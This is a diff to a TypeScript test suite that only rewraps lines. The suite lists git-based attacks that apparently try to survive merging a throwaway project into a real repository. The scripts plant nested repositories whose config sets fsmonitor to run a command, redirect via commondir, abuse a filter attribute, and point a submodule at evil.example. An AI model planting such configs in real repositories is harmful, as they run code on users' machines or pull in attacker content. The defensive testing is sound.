@@ -31,7 +31,8 @@ function walkInto(project: ThrowawayProject, folder: string, marker: string): bo
 }
 
 const settings = (marker: string) =>
-	`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = touch ${marker}; false\\n'`;
+	"printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\t" +
+	`fsmonitor = touch ${marker}; false\\n'`;
 const notMerged = 'repositories inside the repository are never merged, as the merged tree has them';
 
 export const mergedAttacks: readonly MergedAttack[] = [
@@ -42,7 +43,8 @@ export const mergedAttacks: readonly MergedAttack[] = [
 		answer: notMerged,
 		files: {'docs/HEAD': 'ref: refs/heads/main\n', 'docs/objects/.keep': ''},
 		script: marker =>
-			`mkdir docs/refs && touch docs/refs/.keep && ${settings(marker)} > docs/config && git add -A && git commit --quiet -m docs`,
+			`mkdir docs/refs && touch docs/refs/.keep && ${settings(marker)} > docs/config && git add -A && ` +
+			'git commit --quiet -m docs',
 		came: (project, marker) => walkInto(project, 'docs', marker),
 	},
 	{
@@ -51,7 +53,12 @@ export const mergedAttacks: readonly MergedAttack[] = [
 		source: 'a file `commondir` names a folder that has them',
 		answer: notMerged,
 		script: marker =>
-			`mkdir -p docs/in other/objects other/refs && echo "ref: refs/heads/main" > docs/HEAD && echo ../other > docs/commondir && touch other/objects/.keep other/refs/.keep && printf '[core]\\n\\trepositoryformatversion = 1\\n\\tfsmonitor = touch ${marker}; false\\n[extensions]\\n\\tworktreeConfig = true\\n' > other/config && printf '[core]\\n\\tbare = false\\n\\tworktree = ..\\n' > docs/config.worktree && git add -A && git commit --quiet -m docs`,
+			'mkdir -p docs/in other/objects other/refs && echo "ref: refs/heads/main" > docs/HEAD && ' +
+			'echo ../other > docs/commondir && touch other/objects/.keep other/refs/.keep && ' +
+			`printf '[core]\\n\\trepositoryformatversion = 1\\n\\tfsmonitor = touch ${marker}; false\\n` +
+			"[extensions]\\n\\tworktreeConfig = true\\n' > other/config && " +
+			"printf '[core]\\n\\tbare = false\\n\\tworktree = ..\\n' > docs/config.worktree && git add -A && " +
+			'git commit --quiet -m docs',
 		came: (project, marker) => walkInto(project, 'docs', marker),
 	},
 	{
@@ -64,7 +71,8 @@ export const mergedAttacks: readonly MergedAttack[] = [
 			project.git('config', 'filter.own.clean', 'cat');
 		},
 		script: marker =>
-			`echo 'touch ${marker}' > module; echo 'z.txt filter=own' > .gitattributes; echo z > z.txt; git add -A; git commit --quiet -m z`,
+			`echo 'touch ${marker}' > module; echo 'z.txt filter=own' > .gitattributes; echo z > z.txt; git add -A; ` +
+			'git commit --quiet -m z',
 		came: (_project, marker) => existsSync(marker),
 	},
 	{
@@ -82,7 +90,8 @@ export const mergedAttacks: readonly MergedAttack[] = [
 		source: "the person's next `git submodule update` fetches what `.gitmodules` names",
 		answer: 'where submodules come from is not changed by a run',
 		script: () =>
-			'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n" > .gitmodules; git add -A; git commit --quiet -m x',
+			'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n" > .gitmodules; ' +
+			'git add -A; git commit --quiet -m x',
 		came: project => project.git('show', 'main:.gitmodules').includes('evil'),
 	},
 ];
